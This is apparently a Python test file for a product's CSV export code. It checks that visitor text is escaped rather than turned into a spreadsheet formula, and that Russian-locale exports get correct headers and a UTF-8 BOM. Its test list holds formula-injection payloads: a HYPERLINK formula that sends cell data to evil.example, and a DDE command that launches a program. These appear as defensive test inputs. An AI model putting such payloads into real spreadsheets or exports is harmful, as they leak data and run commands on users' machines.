"""Every CSV the product writes goes through kb.csv_files: visitors' text never becomes a formula,
the file opens right in a Russian spreadsheet (UTF-8 with BOM, the reader's words, people's names)."""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta
from pathlib import Path

from kb.csv_files import csv_text
from tests.conftest import sign_in

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A3,"Open the full report")', "+cmd|' /C calc'!A0", "=1+2",
           "-2+3", "@SUM(1+1)", "\t=1+2", "\r=1+2"]


def read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_numbers_stay_numbers():
    rows = read(csv_text(["question", "asked"], [[text, 3] for text in HOSTILE] + [["how do I pay?", -1]]))
    assert [row[0] for row in rows[1:-1]] == ["'" + text for text in HOSTILE]
    assert rows[-1] == ["how do I pay?", "-1"]


def test_csv_is_written_in_one_place():
    writers = [str(path.relative_to(ROOT)) for folder in ("kb", "webapp") for path in (ROOT / folder).rglob("*.py")
               if re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))]
    assert writers == ["kb/csv_files.py"]


def ask_hostile(app):
    from kb.analytics.log import QueryLog

    log = QueryLog(app.extensions["kb"].database)
    for n, text in enumerate(HOSTILE[:3]):
        log.asked(visitor=f"v{n}", qid="q1", text=text, source="help", lang="en", results=[], no_match=True,
                  confidence=0.1, now=datetime.utcnow() - timedelta(minutes=5))
    assert log.flush()
    return len(HOSTILE[:3])


def test_the_leads_question_tables_neutralise_visitors_formulas(ticket_app):
    ask_hostile(ticket_app)
    lead = sign_in(ticket_app, "lena", role="lead")
    for table in ("top", "unanswered"):
        answer = lead.get(f"/lead/questions/{table}.csv", headers={"Accept-Language": "en"})
        assert answer.status_code == 200 and answer.get_data().startswith(b"\xef\xbb\xbf")
        header, *rows = read(answer.get_data(as_text=True))
        assert header[0] == "Question"
        assert sorted(row[0] for row in rows) == sorted("'" + text for text in HOSTILE[:3])


def test_in_russian_the_headers_and_channels_are_russian_and_operators_are_named(quiet_app):
    from tests.test_lead_pages import busy_month

    month = busy_month(quiet_app)
    lead = sign_in(quiet_app, "lena", role="lead")
    answer = lead.get(f"/lead/month.csv?month={month}", headers={"Accept-Language": "ru"})
    assert answer.get_data().startswith(b"\xef\xbb\xbf") and "charset=utf-8" in answer.headers["Content-Type"]
    rows = list(csv.DictReader(io.StringIO(answer.get_data().decode("utf-8-sig"))))
    assert list(rows[0])[:4] == ["Месяц", "Группа", "Имя", "Получено"]
    assert {r["Имя"] for r in rows if r["Группа"] == "Оператор"} == {"Anna Testova", "Boris Testova"}
    assert {r["Имя"] for r in rows if r["Группа"] == "Канал"} == {"сайт", "эл. почта", "чат", "телефон", "соцсети"}
    days = lead.get("/lead/questions/days.csv", headers={"Accept-Language": "ru"}).get_data().decode("utf-8-sig")
    assert days.splitlines()[0].startswith("День,Задано,Справочный центр,Консоль,API")
